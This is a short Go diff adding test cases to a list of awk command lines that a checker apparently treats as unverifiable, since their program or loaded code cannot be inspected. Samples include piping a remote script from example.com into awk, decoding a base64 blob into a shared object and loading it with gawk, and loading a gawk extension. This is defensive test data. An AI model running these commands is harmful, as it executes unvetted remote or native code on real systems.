@@ -90,6 +90,8 @@ var awkUnseeable = []string{
 	`cat f | awk -f -`,
 	`curl -s https://example.com/x.awk | awk -f /dev/stdin`,
 	`awk -f "$F" data`,
+	`base64 -d <<< f0VMRg== > x.so; gawk '@load "./x.so"; BEGIN{}'`,
+	`echo > ext.so; gawk -l ext 'BEGIN{}'`,
 }
 
 // awkOrdinary are everyday awk lines: they run nothing and hold nothing.
